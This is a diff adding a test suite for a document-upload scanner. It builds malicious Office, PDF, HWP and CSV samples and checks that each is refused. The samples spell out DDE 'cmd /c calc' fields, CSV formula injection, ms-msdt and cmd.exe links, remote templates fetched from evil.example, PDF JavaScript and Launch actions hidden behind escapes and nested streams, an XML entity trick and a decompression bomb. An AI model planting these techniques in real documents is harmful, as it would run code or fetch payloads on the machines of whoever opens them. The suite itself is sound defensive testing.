@@ -1,0 +1,298 @@
+import { deflateSync } from 'node:zlib'
+import { problemText, type ProblemCode } from '@mall/contract/problem'
+import { describe, expect, test } from 'vitest'
+import { send } from '#test/form.ts'
+import { makeCompound } from '#test/made-ole.ts'
+import {
+  bookRel,
+  docRel,
+  makeBook,
+  makeHwp,
+  makeLetter,
+  makeOldBook,
+  makePackage,
+  makePdfWith,
+  packed,
+  part,
+  pdfObjects,
+  pdfStream,
+  relsPart,
+} from '#test/made-papers.ts'
+import { useMall } from '#test/mall.ts'
+import { arrangeShop, tokenFor } from '#test/shop.ts'
+
+let token: string
+const mall = useMall(async (made) => {
+  const shop = arrangeShop(made.owner)
+  await shop.makeTenant()
+  token = await tokenFor(made, await shop.makeStore())
+})
+
+type Sample = [what: string, name: string, make: () => Promise<Buffer> | Buffer | string]
+const exe = Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(200), Buffer.from('PE\0\0', 'latin1')])
+const embed = (content: Buffer, name = 'oleObject1.bin') => part(`word/embeddings/${name}`, content)
+const field = (...texts: string[]) =>
+  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${texts
+    .map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`)
+    .join('')}</w:p>`
+const dde = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+const formula = (text: string) => ({ cells: `<c r="A1"><f>${text}</f><v>1</v></c>` })
+const override = (name: string, type: string) => `<Override PartName="/${name}" ContentType="${type}"/>`
+const macroSheet = 'application/vnd.ms-excel.macrosheet+xml'
+const activeX = 'application/vnd.ms-office.activeX+xml'
+const hexed = (bytes: Buffer) => Buffer.from(`${deflateSync(bytes).toString('hex')}>`)
+const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
+const scripted = (name: string) => `/OpenAction<</S/${name}/JS(app.alert\\(1\\))>>`
+
+const bad: Record<string, Sample[]> = {
+  FILE_HAS_MACROS: [
+    ['VBA in a letter', 'a.docx', () => makeLetter([part('word/vbaProject.bin', 'x')])],
+    [
+      'VBA in a sheet under another name',
+      'a.xlsx',
+      () =>
+        makeBook([part('xl/notes.bin', 'x')], {
+          types: override('xl/notes.bin', 'application/vnd.ms-office.vbaProject'),
+        }),
+    ],
+    [
+      'VBA by its relationship',
+      'a.docx',
+      () => makeLetter([relsPart('word/_rels/document.xml.rels', 'vbaProject', 'x.bin', false)]),
+    ],
+    ['an XLM macro sheet', 'a.xlsx', () => makeBook([part('xl/macrosheets/sheet1.xml')])],
+    [
+      'an XLM macro sheet among the worksheets',
+      'a.xlsx',
+      () => makeBook([part('xl/worksheets/sheet2.xml')], { types: override('xl/worksheets/sheet2.xml', macroSheet) }),
+    ],
+    ['a dialog sheet', 'a.xlsx', () => makeBook([part('xl/dialogsheets/sheet1.xml')])],
+    [
+      'macros in a workbook in a letter',
+      'a.docx',
+      () => makeLetter([embed(makeBook([part('xl/vbaProject.bin', 'x')]), 'a.xlsx')]),
+    ],
+    [
+      'macros in an old document in a letter',
+      'a.docx',
+      () => makeLetter([embed(makeCompound([{ name: '_VBA_PROJECT', content: Buffer.from('x') }]))]),
+    ],
+    ['a macro sheet in an old workbook in a letter', 'a.docx', () => makeLetter([embed(makeOldBook(1))])],
+    ['a script in HWP', 'a.hwp', () => makeHwp([], { script: 'function OnDocument_Open() { Run("calc") }' })],
+  ],
+  FILE_HAS_ACTIVEX: [
+    ['ActiveX in a letter', 'a.docx', () => makeLetter([part('word/activeX/activeX1.xml')])],
+    [
+      'ActiveX in a sheet by its type',
+      'a.xlsx',
+      () => makeBook([part('xl/x1.xml')], { types: override('xl/x1.xml', activeX) }),
+    ],
+    [
+      'ActiveX by its relationship',
+      'a.docx',
+      () => makeLetter([relsPart('word/_rels/document.xml.rels', 'control', 'a.xml', false)]),
+    ],
+  ],
+  FILE_HAS_PROGRAM: [
+    ['a program as a part', 'a.docx', () => makeLetter([part('word/media/image1.png', exe)])],
+    ['a packed program', 'a.docx', () => makeLetter([embed(makePackage('견적.exe', 'x'))])],
+    ['a packed script', 'a.docx', () => makeLetter([embed(makePackage('invoice.pdf.js', 'x'))])],
+    ['a packed program called a paper', 'a.docx', () => makeLetter([embed(makePackage('a.pdf', exe))])],
+    [
+      'a packed program, large',
+      'a.xlsx',
+      () => makeBook([part('xl/embeddings/oleObject1.bin', makePackage('run.bat', Buffer.alloc(20_000, 65)))]),
+    ],
+    ['a batch file as a part', 'a.xlsx', () => makeBook([part('xl/embeddings/run.bat', 'calc')])],
+    [
+      'a packed program in HWP',
+      'a.hwp',
+      () =>
+        makeHwp([
+          { name: 'BIN0001.OLE', content: packed(Buffer.concat([Buffer.alloc(4), makePackage('a.exe', 'x')])) },
+        ]),
+    ],
+    [
+      'a program attached to a PDF',
+      'a.pdf',
+      () =>
+        makePdfWith(
+          '',
+          '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>',
+          pdfStream('/Type/EmbeddedFile/Filter/FlateDecode', 'x'),
+        ),
+    ],
+    [
+      'a program attached to a PDF as a paper',
+      'a.pdf',
+      () =>
+        makePdfWith(
+          '',
+          '<</Type/Filespec/F(a.txt)/EF<</F 5 0 R>>>>',
+          pdfStream('/Type/EmbeddedFile/Filter/FlateDecode', exe),
+        ),
+    ],
+    [
+      'the name of a program in UTF-16',
+      'a.pdf',
+      () => makePdfWith('', '<</Type/Filespec/UF<FEFF0061002E006500780065>>>'),
+    ],
+  ],
+  FILE_LINKS_PROGRAM: [
+    ['DDE in a letter', 'a.docx', () => makeLetter([], { body: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"') })],
+    ['DDE over several runs', 'a.docx', () => makeLetter([], { body: field(' D', 'DEA', 'UTO c:\\\\cmd.exe x') })],
+    ['DDE in a simple field', 'a.docx', () => makeLetter([], { body: '<w:fldSimple w:instr="DDE cmd x"/>' })],
+    [
+      'DDE in a header',
+      'a.docx',
+      () => makeLetter([part('word/header1.xml', `<w:hdr>${field('&#68;DE cmd x')}</w:hdr>`)]),
+    ],
+    ['DDE in a sheet', 'a.xlsx', () => makeBook([part('xl/externalLinks/externalLink1.xml', dde)])],
+    ['DDE in a cell', 'a.xlsx', () => makeBook([], formula("cmd|'/c calc'!A0"))],
+    ['DDE in a list of values', 'a.csv', () => "품목,수량\r\n두부,=cmd|'/c calc'!A0\r\n"],
+    ['a link to a program', 'a.docx', () => makeLetter([docRel('hyperlink', 'file:///C:/Windows/System32/cmd.exe')])],
+    [
+      'a link to a program of another machine',
+      'a.docx',
+      () => makeLetter([docRel('hyperlink', '\\\\10.0.0.1\\a\\setup.exe')]),
+    ],
+    ['a link that runs a script', 'a.xlsx', () => makeBook([bookRel('hyperlink', 'java&#115;cript:alert(1)')])],
+    ['a link by ms-msdt', 'a.docx', () => makeLetter([docRel('oleObject', 'ms-msdt:/id PCWDiagnostic')])],
+    ['a workbook that is a program', 'a.xlsx', () => makeBook([bookRel('externalLinkPath', 'file:///C:/a.xll')])],
+  ],
+  FILE_LOADS_REMOTE: [
+    [
+      'a template of the web',
+      'a.docx',
+      () => makeLetter([relsPart('word/_rels/settings.xml.rels', 'attachedTemplate', 'https://evil.example/a.dotm')]),
+    ],
+    [
+      'a template of another machine',
+      'a.docx',
+      () =>
+        makeLetter([relsPart('word/_rels/settings.xml.rels', 'attachedTemplate', 'file:///\\\\10.0.0.1\\a\\b.dotm')]),
+    ],
+    ['an object of the web', 'a.docx', () => makeLetter([docRel('oleObject', 'http://evil.example/a.rtf!')])],
+    ['a frame of the web', 'a.docx', () => makeLetter([docRel('frame', 'http&#x3a;//evil.example/a.html')])],
+    [
+      'a relationship in UTF-16',
+      'a.docx',
+      () => {
+        const { content } = docRel('subDocument', 'https://evil.example/a.docx')
+        return makeLetter([part('word/_rels/document.xml.rels', Buffer.from(`\ufeff${content as string}`, 'utf16le'))])
+      },
+    ],
+  ],
+  FILE_HAS_SCRIPT: [
+    ['a script at the opening', 'a.pdf', () => makePdfWith(scripted('JavaScript'))],
+    ['its name behind escapes', 'a.pdf', () => makePdfWith(scripted('J#61vaS#63ript'))],
+    ['a script in an object of its own', 'a.pdf', () => makePdfWith('/OpenAction 4 0 R', script)],
+    ['a script in an object stream', 'a.pdf', () => makePdfWith('/OpenAction 9 0 R', pdfObjects(script))],
+    [
+      'an object stream packed twice',
+      'a.pdf',
+      () =>
+        makePdfWith(
+          '',
+          pdfStream(
+            '/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]',
+            `9 0 ${script}`,
+            hexed as typeof deflateSync,
+          ),
+        ),
+    ],
+    [
+      'an object stream that is not packed',
+      'a.pdf',
+      () =>
+        makePdfWith(
+          '',
+          pdfStream('/Type/ObjStm/N 1/First 4', `9 0 ${script}`, ((bytes: Buffer) => bytes) as typeof deflateSync),
+        ),
+    ],
+    ['a script behind a button', 'a.pdf', () => makePdfWith('', `<</Type/Annot/Subtype/Widget/A${script}>>`)],
+    [
+      'an object hidden in a comment',
+      'a.pdf',
+      () => makePdfWith('/OpenAction 9 0 R', `null\n% 9 0 obj ${script} endobj`),
+    ],
+    [
+      'an object hidden in a stream',
+      'a.pdf',
+      () =>
+        makePdfWith('', pdfStream('', `9 0 obj ${script} endobj`, ((bytes: Buffer) => bytes) as typeof deflateSync)),
+    ],
+    [
+      'a script in a form',
+      'a.pdf',
+      () =>
+        makePdfWith(
+          '/AcroForm<</XFA 4 0 R>>',
+          pdfStream('/Filter/FlateDecode', '<template><script>x</script></template>'),
+        ),
+    ],
+    ['PostScript in HWP', 'a.hwp', () => makeHwp([{ name: 'BIN0001.eps', content: packed(Buffer.from('%!PS')) }])],
+  ],
+  FILE_STARTS_PROGRAM: [
+    ['a PDF that starts a program', 'a.pdf', () => makePdfWith('/OpenAction<</S/Launch/Win<</F(cmd)/P(/c calc)>>>>')],
+    ['the same in an object stream', 'a.pdf', () => makePdfWith('', pdfObjects('<</S/La#75nch/F(a.pdf)>>'))],
+  ],
+  FILE_LOCKED: [
+    [
+      'a locked PDF whose objects cannot be looked at',
+      'a.pdf',
+      () => makePdfWith('/Encrypt 8 0 R', pdfObjects('<</A 1>>')),
+    ],
+    ['a locked HWP', 'a.hwp', () => makeHwp([], { flags: 3 })],
+  ],
+  FILE_UNSAFE: [
+    [
+      'an object stream that bursts',
+      'a.pdf',
+      () =>
+        makePdfWith('', pdfStream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', Buffer.alloc(40 * 1024 * 1024, 32))),
+    ],
+    [
+      'an object stream in a packing that nobody uses',
+      'a.pdf',
+      () => makePdfWith('', pdfStream('/Type/ObjStm/N 1/First 4/Filter/LZWDecode', script)),
+    ],
+    [
+      'a list of links with entities',
+      'a.docx',
+      () => makeLetter([part('word/_rels/document.xml.rels', '<!DOCTYPE x [<!ENTITY a "http">]><Relationships/>')]),
+    ],
+  ],
+}
+
+describe.each(Object.entries(bad))('refuses with %s', (code, samples) => {
+  test.each(samples)('%s', async (_what, name, make) => {
+    const { status, problem } = await send(mall, token, name, await make())
+    expect([problem.code, status]).toEqual([code, 422])
+    expect(problem.message).toBe(problemText(code as ProblemCode, 'ko'))
+  })
+})
+
+/** The head of a photo as an iPhone keeps it: a box of type `ftyp`, brand `heic`. */
+const heic = Buffer.concat([Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'), Buffer.alloc(400, 7)])
+
+test.each(['IMG_0001.HEIC', '사진.heif', '사진.jpg'])(
+  'refuses a HEIC photo called %s, and says how to get a JPG',
+  async (name) => {
+    const { status, problem } = await send(mall, token, name, heic)
+    expect([problem.code, status]).toEqual(['FILE_IS_HEIC', 415])
+    expect(problem.message).toMatch(/설정 > 카메라 > 포맷/)
+  },
+)
+
+test.each(['a.xls', 'a.doc', 'a.ppt', 'a.xlsm', 'a.docm', 'a.xlsb', 'a.rtf'])(
+  'does not take %s at all',
+  async (name) => {
+    const { problem } = await send(mall, token, name, makeOldBook(0))
+    expect(problem.code).toBe('FILE_KIND_REFUSED')
+  },
+)
+
+test('is tried with at least thirty of them', () => {
+  expect(Object.values(bad).flat().length).toBeGreaterThan(30)
+})
